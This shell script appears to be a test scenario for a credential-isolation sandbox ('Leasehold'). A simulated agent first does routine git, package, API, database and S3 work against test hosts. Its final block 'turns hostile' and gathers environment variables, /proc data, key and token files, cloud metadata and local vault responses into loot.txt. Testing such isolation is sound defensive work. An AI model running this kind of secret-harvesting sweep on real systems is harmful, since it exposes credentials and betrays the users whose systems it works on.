#!/bin/sh
# The "agent" of the story: does its work with ordinary tools, then looks everywhere for a credential.
# It runs inside a compartment; nothing here knows about Leasehold.
set -e
say() { printf '\n· %s\n' "$1"; }

say "clone a private repository, commit, push"
git clone -q https://git.forge.test/acme/web.git
cd web
echo "fixed by an agent" >> FIX.md
git add FIX.md
git -c user.name=Agent -c user.email=agent@example.test commit -q -m "Fix it"
git push -q origin "HEAD:refs/heads/fix-$(git rev-parse --short HEAD)"
echo "  pushed: $(git log -1 --format='%h %s')"
cd ..

say "install a private Python package"
"$PYTHON" -m pip install -q --disable-pip-version-check --no-cache-dir --target site \
  --index-url https://pypi.forge.test/simple/ acme-widget
PYTHONPATH=site "$PYTHON" -c 'import acme_widget; print("  " + acme_widget.hello())'

say "install a private npm package"
npm install --silent --no-audit --no-fund --registry=https://npm.forge.test/ @acme/widget
node -e 'console.log("  " + require("@acme/widget")())'

say "call an API, and read a stream"
curl -sS https://api.forge.test/v1/me; echo
curl -sSN 'https://api.forge.test/stream?events=3&interval_ms=100' | sed -n 's/^data:/  event:/p'

say "query a database, with no password"
psql -XAtq -d "$DATABASE" -c "INSERT INTO shop.orders (item) VALUES ('tea')" \
  -c "SELECT '  as ' || session_user || ': ' || count(*) || ' orders' FROM shop.orders"

say "clone over SSH, and push"
git clone -q "$REPOSITORY" infra 2>/dev/null
cd infra
echo "the agent was here" >> NOTES
git add NOTES
git -c user.name=Agent -c user.email=agent@example.test commit -q -m "Note it"
git push -q origin "HEAD:refs/heads/note-$(git rev-parse --short HEAD)"
echo "  pushed: $(git log -1 --format='%h %s')"
cd ..
ssh-add -L | cut -c1-72 | sed 's/^/  the agent shows: /'

say "upload to S3"
"$PYTHON" - "$STORE" <<'PYTHON'
import sys, boto3
s3 = boto3.client("s3", endpoint_url=sys.argv[1])
s3.put_object(Bucket="builds", Key="agent/site.tar", Body=b"x" * 1_000_000)
print("  stored:", s3.head_object(Bucket="builds", Key="agent/site.tar")["ContentLength"], "bytes, signed outside")
PYTHON

say "try what was never allowed"
curl -sS -X POST https://api.forge.test/user/keys; echo
curl -sS -m 5 https://telemetry.example/ || true

say "now it turns hostile: whatever it can find goes to loot.txt"
{
  env; id; mount; ps aux
  cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps /proc/net/tcp /proc/net/unix
  ls -laR /run /tmp /home /root /etc/leasehold /var "$HOME"
  find / -xdev \( -path /usr -o -path /proc \) -prune -o -type f \( -name '*.pem' -o -name '*.key' -o -name '.netrc' \
    -o -name '*token*' -o -name '*secret*' -o -name '*credential*' -o -name '.env*' -o -name 'id_*' \) ! -name loot.txt -size -64k \
    -exec tail -n +1 {} +
  find "$HOME" /run /tmp /etc -type f ! -name loot.txt -size -1024k -exec tail -n +1 {} +
  for way in echo reflect reflect-headers gzip; do
    curl -sS -i --compressed "https://api.forge.test/$way"; curl -sS -i "https://api.forge.test/$way"
  done
  at=1; while [ $at -lt 40 ]; do curl -sS "https://api.forge.test/reflect-split?at=$at"; at=$((at + 3)); done
  curl -sS -m 3 http://169.254.169.254/latest/meta-data/; curl -sS -m 3 -k https://127.0.0.1:8200/
} > loot.txt 2>&1 || true
echo "  $(wc -c < loot.txt) bytes of loot"
